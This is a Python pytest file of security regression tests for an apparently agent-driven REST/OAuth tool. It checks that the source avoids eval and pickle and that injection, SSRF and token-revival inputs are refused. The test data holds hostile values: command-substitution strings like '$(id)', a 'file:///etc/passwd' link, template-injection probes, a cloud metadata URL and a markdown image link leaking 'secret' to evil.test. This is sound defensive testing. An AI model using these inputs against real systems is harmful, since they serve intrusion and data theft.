"""What went wrong elsewhere and has a test nowhere else; and the table that names them all."""

from __future__ import annotations

import ast
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.support.authorization_server import CLIENT, AuthorizationServer, authorization_server
from tests.support.oauth import Browser, scheme_of

from restwright.agents.prompting.templates import render
from restwright.agents.runtime.driver import Performer
from restwright.agents.steps import Call
from restwright.calls.approval.approval import refuse_all
from restwright.calls.auth.oauth.client import OAuthClient
from restwright.calls.auth.oauth.driver import obtain_access_token
from restwright.calls.auth.oauth.flows import TokenRequest
from restwright.calls.auth.oauth.token_cache import TokenCache, token_key_from_parts
from restwright.errors import RefusedRequest
from restwright.jsontypes import Json
from restwright.net.policy.origins import parse_origin
from restwright.net.storage import write_state
from restwright.openapi.api import load
from restwright.testing import RecordingTransport, ScriptedModel, document, reply
from restwright.tools.catalog.catalog import catalog

ROOT = Path(__file__).parents[2]
TABLE = ROOT / "docs" / "security.md"
SOURCES = sorted((ROOT / "src").rglob("*.py"))
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "jinja2"}
# Its templates are files of ours; a text of others is only ever a value in them.
PAGES = ROOT / "src" / "restwright" / "web" / "rendering.py"


@pytest.fixture
def server() -> Iterator[AuthorizationServer]:
    with authorization_server() as running:
        yield running


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.relative_to(ROOT).as_posix())
def test_no_text_becomes_code_in_this_process(path: Path) -> None:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            called = node.func.id if isinstance(node.func, ast.Name) else ""
            assert called not in FORBIDDEN_CALLS, f"line {node.lineno}"
            assert not any(each.arg == "shell" for each in node.keywords), f"line {node.lineno}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            named = [each.name for each in node.names]
            imported = [node.module or ""] if isinstance(node, ast.ImportFrom) else named
            allowed = {"jinja2"} if path == PAGES else set[str]()
            assert not (FORBIDDEN_MODULES - allowed) & {each.split(".")[0] for each in imported}
        if isinstance(node, ast.Attribute) and path == PAGES:
            assert node.attr != "from_string", f"line {node.lineno}"


HOSTILE_LINKS = [
    *("file:///etc/passwd", "javascript:alert(1)", "ms-settings:", "a`id`", "$(id)", "-x"),
    *("http://login.evil.test/", "https://u:p@login.test/", ""),
]


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_a_person_is_sent_to_no_other_scheme_than_https(
    server: AuthorizationServer, link: str
) -> None:
    browser = Browser(server)
    client = OAuthClient(
        client_id=CLIENT,
        flow="device",
        device_url=f"{server.url}/device",
        token_url=f"{server.url}/token",
        login=browser,
    )
    answer = {"device_code": "d", "user_code": "c", "verification_uri": link}
    send = RecordingTransport(lambda _: reply(200, answer))
    wanted = TokenRequest(client=client, scheme=scheme_of(server, "deviceAuthorization"))
    with pytest.raises(RefusedRequest):
        obtain_access_token(wanted, send)
    assert browser.visits == []


@pytest.mark.parametrize(
    "text", ["{{results}}", "{0.__class__.__mro__}", "{task.__globals__}", "%(task)s", "{{ 7*7 }}"]
)
def test_what_is_put_into_a_prompt_is_no_template(text: str) -> None:
    [*_, last] = render("rest_selector", operations="- a: b", known="", task=text)
    assert text in last.text


REVIVING: list[Json] = [
    {"lc": 1, "type": "secret", "id": ["PATH"]},
    {"access": {"lc": 1, "type": "secret", "id": ["PATH"]}, "refresh": None, "good_until": "x"},
    {"__type__": "restwright.calls.auth.oauth.token_cache.AccessToken", "access": "a"},
    ["restwright.calls.auth.oauth.token_cache.AccessToken", "a"],
    "\ud800",
]


@pytest.mark.parametrize("written", REVIVING, ids=range(len(REVIVING)))
def test_what_was_kept_is_plain_data(written: Json) -> None:
    key = token_key_from_parts("a")
    write_state("tokens", key.text, json.dumps(written).encode())
    assert TokenCache().peek(key) is None


def test_an_address_in_a_response_is_not_fetched() -> None:
    linked = {
        "image_url": "http://169.254.169.254/latest/meta-data/",
        "next": "https://evil.test/2",
        "text": "![x](https://evil.test/?q=secret)",
    }
    send = RecordingTransport(lambda _: reply(200, linked))
    written = document({"/x": {"get": {"operationId": "x", "responses": {}}}})
    performer = Performer(
        catalog=catalog(load(written, alias="shop")),
        model=ScriptedModel([]),
        send=send,
        approve=refuse_all,
        connections={},
    )
    performer(Call(tool="shop__x", arguments={}))
    assert [parse_origin(each.url) for each in send.sent] == [
        parse_origin("https://api.example.test")
    ]


NAMED = re.compile(r"`(tests/[\w/]+\.py::\w+)`")


@pytest.mark.parametrize("named", sorted({*NAMED.findall(TABLE.read_text(encoding="utf-8"))}))
def test_every_test_that_the_table_names_is_there(named: str) -> None:
    path, _, name = named.partition("::")
    tree = ast.parse((ROOT / path).read_text(encoding="utf-8"))
    found = {each.name for each in tree.body if isinstance(each, ast.FunctionDef)}
    assert name in found


def test_every_statement_about_mcp_names_a_test_or_says_why_none() -> None:
    text = TABLE.read_text(encoding="utf-8").partition("## Serving the Model Context Protocol")[2]
    rows = re.findall(r"^\| (\d+) \| (.*)$", text, re.MULTILINE)
    assert [int(number) for number, _ in rows] == [*range(1, 31)]
    for _, row in rows:
        assert NAMED.search(row) or "no such part" in row, row


def test_every_row_of_the_table_names_a_test_or_says_why_none() -> None:
    text = TABLE.read_text(encoding="utf-8").partition("## Advisories and their tests")[2]
    rows = [each for each in text.splitlines() if each.startswith("| ")][1:]
    assert len(rows) > 20
    for row in rows:
        assert NAMED.search(row) or "not there yet" in row or "no such part" in row, row
